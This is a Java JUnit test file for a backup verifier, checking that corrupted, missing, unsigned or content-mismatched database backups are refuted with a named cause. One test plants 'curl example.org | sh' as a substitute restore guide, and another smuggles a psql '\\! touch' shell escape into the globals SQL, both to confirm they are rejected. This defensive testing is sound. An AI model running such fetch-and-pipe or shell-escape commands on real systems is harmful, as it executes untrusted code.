package io.groundzero.backup.verifier;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.function.UnaryOperator;

import org.junit.jupiter.api.Test;

import io.groundzero.backup.contracts.error.ErrorCode;
import io.groundzero.backup.contracts.manifest.ArtifactKind;
import io.groundzero.backup.contracts.manifest.Digest;
import io.groundzero.backup.contracts.manifest.EncryptedArtifact;
import io.groundzero.backup.contracts.message.BackupShipped;
import io.groundzero.backup.contracts.name.ObjectNames;
import io.groundzero.backup.contracts.proof.DatabaseEvidence;
import io.groundzero.backup.contracts.proof.Proof;
import io.groundzero.backup.contracts.proof.TableEvidence;
import io.groundzero.backup.contracts.proof.Verdict;
import io.groundzero.backup.fingerprint.DatabaseFingerprint;
import io.groundzero.backup.fingerprint.Fingerprint;
import io.groundzero.backup.fingerprint.TableFingerprint;
import io.groundzero.backup.fingerprint.catalogue.Catalogue;
import io.groundzero.backup.fingerprint.catalogue.SequenceFingerprint;
import io.groundzero.backup.fingerprint.catalogue.SequenceValue;
import io.groundzero.backup.verifier.fixture.TestBackup;

/** The verifier's step on backups that are bad: each is refuted, and the proof names what is wrong. */
class RefutedBackupTest extends VerifyScene {

    @Test
    void flippedBitRefutes() throws Exception {
        // Given
        TestBackup backup = backup();
        BackupShipped message = backup.ship();
        store.flip(backup.key(APP));

        // When
        Proof proof = verifier.verify(message);

        // Then
        refuted(proof, ErrorCode.OBJECT_CORRUPT, "fetch", APP);
    }

    @Test
    void truncatedObjectRefutes() throws Exception {
        // Given
        TestBackup backup = backup();
        BackupShipped message = backup.ship();
        store.truncate(backup.key(ObjectNames.GLOBALS));

        // When
        Proof proof = verifier.verify(message);

        // Then
        refuted(proof, ErrorCode.OBJECT_CORRUPT, "fetch", ObjectNames.GLOBALS);
    }

    @Test
    void missingObjectRefutes() throws Exception {
        // Given
        TestBackup backup = backup();
        BackupShipped message = backup.ship();
        store.delete(backup.key(APP));

        // When
        Proof proof = verifier.verify(message);

        // Then
        refuted(proof, ErrorCode.OBJECT_MISSING, "fetch", APP);
    }

    @Test
    void anotherRestoreGuideRefutes() throws Exception {
        // Given
        TestBackup backup = backup();
        BackupShipped message = backup.ship();
        store.put(backup.key(ObjectNames.RESTORE_GUIDE), "curl example.org | sh".getBytes(UTF_8));

        // When
        Proof proof = verifier.verify(message);

        // Then
        refuted(proof, ErrorCode.OBJECT_CORRUPT, "fetch", ObjectNames.RESTORE_GUIDE);
    }

    @Test
    void missingRestoreGuideRefutes() throws Exception {
        // Given
        TestBackup backup = backup();
        BackupShipped message = backup.ship();
        store.delete(backup.key(ObjectNames.RESTORE_GUIDE));

        // When
        Proof proof = verifier.verify(message);

        // Then
        refuted(proof, ErrorCode.OBJECT_MISSING, "fetch", ObjectNames.RESTORE_GUIDE);
    }

    @Test
    void changedManifestRefutes() throws Exception {
        // Given
        TestBackup backup = backup();
        BackupShipped message = backup.ship();
        store.flip(backup.key(ObjectNames.MANIFEST));

        // When
        Proof proof = verifier.verify(message);

        // Then
        refuted(proof, ErrorCode.MANIFEST_INVALID, "fetch", ObjectNames.MANIFEST);
    }

    @Test
    void strangersSignatureRefutes() throws Exception {
        // Given
        BackupShipped message = backup().signedBy("stranger").ship();

        // When
        Proof proof = verifier.verify(message);

        // Then
        refuted(proof, ErrorCode.SIGNATURE_INVALID, "fetch", ObjectNames.MANIFEST);
    }

    @Test
    void manifestWithoutFingerprintRefutes() throws Exception {
        // Given
        BackupShipped message = backup().manifest(whole -> with(whole, whole.source(), whole.databases(),
                whole.artifacts().stream().filter(artifact -> artifact.kind() != ArtifactKind.FINGERPRINT).toList()))
                .ship();

        // When
        Proof proof = verifier.verify(message);

        // Then
        refuted(proof, ErrorCode.MANIFEST_INVALID, "fetch", "FINGERPRINT");
    }

    @Test
    void plaintextThatIsNotWhatWasEncryptedRefutes() throws Exception {
        // Given
        BackupShipped message = backup().manifest(whole -> with(whole, whole.source(), whole.databases(),
                whole.artifacts().stream()
                        .map(artifact -> artifact.object().equals(APP)
                                ? new EncryptedArtifact(artifact.name(), artifact.kind(), artifact.object(),
                                        new Digest(1, artifact.plain().sha256()), artifact.encrypted(),
                                        artifact.recipients())
                                : artifact)
                        .toList()))
                .ship();

        // When
        Proof proof = verifier.verify(message);

        // Then
        refuted(proof, ErrorCode.DECRYPTION_FAILED, "decrypt", APP);
    }

    @Test
    void differentContentRefutesAndNamesTheTable() throws Exception {
        // Given
        BackupShipped message = backup().fingerprint(RefutedBackupTest::oneRowMore).ship();

        // When
        Proof proof = verifier.verify(message);

        // Then
        refuted(proof, ErrorCode.CONTENT_DIFFERS, "compare", "app: sales.customer has 500 rows, 501 in the source");
        // and says nothing about the others
        assertThat(proof.summary()).endsWith("; the 2 other databases came back");
        assertThat(proof.databases()).hasSize(3).first()
                .isEqualTo(new DatabaseEvidence("app", Verdict.REFUTED, ErrorCode.CONTENT_DIFFERS.name(),
                        "app: sales.customer has 500 rows, 501 in the source"));
        assertThat(proof.databases().subList(1, 3)).extracting(DatabaseEvidence::verdict)
                .containsOnly(Verdict.PROVEN);
        assertThat(proof.steps().get(4).evidence().get(0)).contains("sales.customer has 500 rows");
        assertThat(proof.tables()).hasSize(4).first().isEqualTo(
                new TableEvidence("app", "sales.customer", 501L, false, "has 500 rows, 501 in the source"));
    }

    @Test
    void whatTheCopyLacksBesideRowsRefutesAndIsNamed() throws Exception {
        // Given
        BackupShipped message = backup().fingerprint(whole -> changed(whole,
                database -> new DatabaseFingerprint(database.database(), database.tables(), database.largeObjects(),
                        database.largeObjectContent(), database.materializedViews(),
                        with(database.catalogue(), "index sales.lost", "CREATE INDEX lost"), ahead(database),
                        database.extensions()),
                with(whole.cluster(), "membership of app in nobody", "admin: false"))).ship();

        // When
        Proof proof = verifier.verify(message);

        // Then
        refuted(proof, ErrorCode.CONTENT_DIFFERS, "compare", "cluster: membership of app in nobody is missing");
        assertThat(proof.summary()).contains("app: index sales.lost is missing",
                "app: sequence sales.customer_id_seq stands at 500, 600 in the source");
        assertThat(proof.tables()).hasSize(4).allMatch(TableEvidence::identical);
    }

    @Test
    void fingerprintOfTheFirstVersionInALaterBackupRefutes() throws Exception {
        // Given
        BackupShipped message = backup().fingerprint(TestBackup::rowsOnly).ship();

        // When
        Proof proof = verifier.verify(message);

        // Then
        refuted(proof, ErrorCode.CONTENT_DIFFERS, "compare", "tells rows only");
    }

    @Test
    void manifestWithoutChecksRefutes() throws Exception {
        // Given
        BackupShipped message = backup().withoutChecks().ship();

        // When
        Proof proof = verifier.verify(message);

        // Then
        refuted(proof, ErrorCode.MANIFEST_INVALID, "fetch", "lists 0 artifacts of kind CHECKS");
    }

    @Test
    void fingerprintWithoutItsCatalogueRefutes() throws Exception {
        // Given
        BackupShipped message = backup().fingerprint(whole -> new Fingerprint(2, whole.level(),
                TestBackup.rowsOnly(whole).databases(), whole.cluster())).ship();

        // When
        Proof proof = verifier.verify(message);

        // Then
        refuted(proof, ErrorCode.CONTENT_DIFFERS, "compare", "lacks a catalogue");
    }

    @Test
    void fingerprintThatCoversLessThanTheBackupRefutes() throws Exception {
        // Given
        BackupShipped message = backup().fingerprint(
                whole -> new Fingerprint(2, whole.level(), whole.databases().subList(0, 1), whole.cluster())).ship();

        // When
        Proof proof = verifier.verify(message);

        // Then
        refuted(proof, ErrorCode.CONTENT_DIFFERS, "compare", "covers [postgres]");
    }

    @Test
    void restoreErrorRefutesWithPostgresWords() throws Exception {
        // Given
        BackupShipped message = backup().globals(sql -> sql + "GRANT nobody_knows TO app;\n").ship();

        // When
        Proof proof = verifier.verify(message);

        // Then
        refuted(proof, ErrorCode.RESTORE_FAILED, "restore", "role \"nobody_knows\" does not exist");
    }

    @Test
    void psqlCommandInGlobalsIsNeverRun() throws Exception {
        // Given
        BackupShipped message = backup().globals(sql -> sql + "\\! touch " + verifier.scratchFolder() + "/evil\n")
                .ship();

        // When
        Proof proof = verifier.verify(message);

        // Then
        refuted(proof, ErrorCode.RESTORE_FAILED, "restore", "psql command");
    }

    private static Fingerprint oneRowMore(Fingerprint whole) {
        return changed(whole, database -> new DatabaseFingerprint(database.database(), database.tables().stream()
                .map(table -> table.table().equals("customer")
                        ? new TableFingerprint(table.schema(), table.table(), table.rows() + 1, table.content())
                        : table)
                .toList(), database.largeObjects(), database.largeObjectContent(), database.materializedViews(),
                database.catalogue(), database.sequences(), database.extensions()), whole.cluster());
    }

    private static Fingerprint changed(Fingerprint whole, UnaryOperator<DatabaseFingerprint> app, Catalogue cluster) {
        return new Fingerprint(whole.schemaVersion(), whole.level(), whole.databases().stream()
                .map(database -> database.database().equals("app") ? app.apply(database) : database).toList(),
                cluster);
    }

    private static List<SequenceFingerprint> ahead(DatabaseFingerprint database) {
        SequenceValue value = new SequenceValue(600, true);
        return database.sequences().stream().map(sequence -> sequence.name().equals("sales.customer_id_seq")
                ? new SequenceFingerprint(sequence.name(), sequence.increment(), value, value)
                : sequence).toList();
    }

    private static Catalogue with(Catalogue catalogue, String name, String definition) {
        Map<String, String> entries = new TreeMap<>(catalogue.entries());
        entries.put(name, definition);
        return new Catalogue(entries, catalogue.changed());
    }
}
